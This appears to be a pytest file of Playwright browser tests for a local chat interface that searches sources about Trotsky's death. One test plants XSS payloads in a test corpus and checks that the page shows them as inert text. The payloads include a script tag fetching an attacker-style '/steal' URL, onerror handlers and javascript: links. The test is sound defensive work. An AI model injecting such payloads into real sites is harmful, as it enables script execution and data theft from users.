"""The chat in a real browser: headless Chromium driven by Playwright against the real server."""
import socket
from pathlib import Path

import pytest

pytestmark = pytest.mark.browser

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--no-first-run"]
LOCAL = ("http://127.0.0.1", "data:", "blob:", "about:")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.fail("Chromium is not installed at /usr/bin/chromium: run ./scripts/test.sh, which installs it")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


def start(index, corpus, build=False):
    from assistant.ui import serve

    port = free_port()
    app = serve(index_dir=index, corpus_dir=corpus, port=port, build=build, block=False)
    return app, f"http://127.0.0.1:{port}/"


class Page:
    """A page that records every request leaving 127.0.0.1 and every dialog."""

    def __init__(self, browser, url, width=1280, height=900):
        self.page = browser.new_page(viewport={"width": width, "height": height}, accept_downloads=True)
        self.external, self.dialogs = [], []
        self.page.on("request", lambda r: None if r.url.startswith(LOCAL) else self.external.append(r.url))
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.page.goto(url, wait_until="load")
        self.page.wait_for_selector("#question textarea")

    def ask(self, question, turns):
        self.page.fill("#question textarea", question)
        self.page.click("#ask")
        self.page.wait_for_function(f"document.querySelectorAll('#transcript .turn').length >= {turns}",
                                    timeout=60_000)
        return self.page.locator("#transcript .turn").nth(turns - 1)


@pytest.fixture(scope="module")
def seed_server(seed_index):
    app, url = start(seed_index, seed_index.parent / "corpus")
    yield url
    app.close()


def test_ask_follow_up_filter_export(browser, seed_server, artifacts):
    ui = Page(browser, seed_server)
    page = ui.page
    assert "does not summarise them or judge" in page.inner_text("#app-head")
    page.click("#about button, #about .label-wrap")
    page.wait_for_selector("#about .about-source")
    assert "pro-Stalin polemic" in page.inner_text("#about")

    first = ui.ask("How did Trotsky die?", 1)
    cards = first.locator(".card")
    assert cards.count() >= 2
    # titles and labels in the reader's own fonts, not the bundled web font whose semi-bold capitals misrender
    assert page.evaluate("getComputedStyle(document.querySelector('.card h3')).fontFamily").startswith("system-ui")
    for i in range(cards.count()):
        card = cards.nth(i)
        assert card.locator(".viewpoint").inner_text().startswith("VIEWPOINT") or card.locator(".viewpoint").inner_text()
        assert "¶" in card.locator("summary").first.inner_text()
        assert card.locator("mark").count() >= 1
    summary = first.locator("summary").first
    summary.click()
    assert first.locator(".context strong").first.is_visible()
    page.screenshot(path=str(artifacts / "answer-desktop.png"))

    second = ui.ask("Who was the killer?", 2)
    assert "Searched as:" in second.locator(".resolved").inner_text()
    assert "Trotsky" in second.locator(".resolved").inner_text()
    page.screenshot(path=str(artifacts / "follow-up-desktop.png"), full_page=True)

    # Only one source: uncheck the others.
    labels = page.locator("#sources label")
    keep = "How Putin and Netflix assassinated Trotsky"
    for i in range(labels.count()):
        if keep not in labels.nth(i).inner_text():
            labels.nth(i).click()
    third = ui.ask("How was Trotsky killed?", 3)
    titles = third.locator(".card h3").all_inner_texts()
    assert titles == [keep]
    assert third.locator(".nomatch").count() == 0
    assert "for “killed”" in third.locator(".also").inner_text()  # the corpus words matched for the question's
    fourth = ui.ask("Where did trotksy die?", 4)  # a slip of the keyboard is read as the sources spell it
    assert "“trotksy” as “trotsky”" in fourth.locator(".note").inner_text()
    assert "where did trotsky die" in fourth.locator(".resolved").inner_text().lower()

    with page.expect_download() as download:
        page.click("#export")
    exported = Path(download.value.path()).read_text(encoding="utf-8")
    assert "# Conversation" in exported and "How did Trotsky die?" in exported and "¶" in exported
    assert "**Viewpoint:**" in exported and "Also matched:" in exported

    page.set_viewport_size({"width": 390, "height": 844})
    page.screenshot(path=str(artifacts / "answer-phone.png"))
    width = page.evaluate("document.documentElement.scrollWidth")
    assert width <= 400  # no sideways scrolling on a phone

    page.click("#clear")
    page.wait_for_function("document.querySelectorAll('#transcript .turn').length == 0")
    assert not ui.external and not ui.dialogs


def test_empty_question_shows_a_message_and_keeps_the_chat(browser, seed_server):
    ui = Page(browser, seed_server)
    ui.ask("Who created the Red Army?", 1)
    ui.page.fill("#question textarea", "   ")
    ui.page.click("#ask")
    ui.page.wait_for_selector("#status .status")
    assert "question is empty" in ui.page.inner_text("#status")
    assert ui.page.locator("#transcript .turn").count() == 1


HOSTILE = """The harbour master's log was full of strange entries about the lighthouse keeper and his lamp.

<script>window.__pwned = 1; fetch('http://203.0.113.9/steal')</script> The keeper wrote scripts for the lamp.

<img src="http://203.0.113.9/pixel.png" onerror="window.__pwned = 2"> The keeper's lamp image was famous in the harbour.

<a href="javascript:window.__pwned=3">click the lamp</a> to read about the keeper's lamp in the harbour.

[a markdown link](javascript:alert(1)) and ![image](http://203.0.113.9/x.png) about the keeper's lamp.
"""


def test_hostile_corpus_renders_as_text(browser, tmp_path, artifacts):
    from embeddings import build_index

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    (corpus / "hostile.toml").write_text('title = "<img src=x onerror=alert(1)> Log"\n'
                                         'viewpoint = "<script>alert(2)</script> Keeps records."\n', encoding="utf-8")
    build_index(corpus, tmp_path / "index", progress=False)
    app, url = start(tmp_path / "index", corpus)
    try:
        ui = Page(browser, url)
        turn = ui.ask("What did the keeper write about the lamp in the harbour?", 1)
        ui.page.locator("#transcript summary").first.click()
        card = turn.locator(".card").first
        text = card.inner_text()
        assert "<img src=x onerror=alert(1)> Log" in text
        assert "<script>alert(2)</script>" in text
        assert "<script>" in ui.page.inner_text("#transcript")
        assert ui.page.locator("#transcript img, #transcript script, #transcript a[href]").count() == 0
        ui.page.click("#about button, #about .label-wrap")
        ui.page.wait_for_selector("#about .about-source")
        assert "<script>alert(2)</script>" in ui.page.inner_text("#about")
        assert ui.page.locator("#about img, #about script, #sources img").count() == 0
        assert ui.page.evaluate("window.__pwned") is None
        ui.page.screenshot(path=str(artifacts / "hostile-corpus.png"), full_page=True)
        assert not ui.dialogs
        assert not ui.external, ui.external
    finally:
        app.close()


def test_missing_index_is_explained_in_the_page(browser, tmp_path, artifacts):
    app, url = start(tmp_path / "no-index", tmp_path / "no-corpus")
    try:
        ui = Page(browser, url)
        ui.page.wait_for_selector("#status .status")
        assert "No index to answer from" in ui.page.inner_text("#status")
        ui.page.fill("#question textarea", "Who created the Red Army?")
        ui.page.click("#ask")
        ui.page.wait_for_function("document.querySelector('#status').innerText.includes('Could not answer')")
        assert "assistant build" in ui.page.inner_text("#status")
        ui.page.screenshot(path=str(artifacts / "missing-index.png"))
    finally:
        app.close()
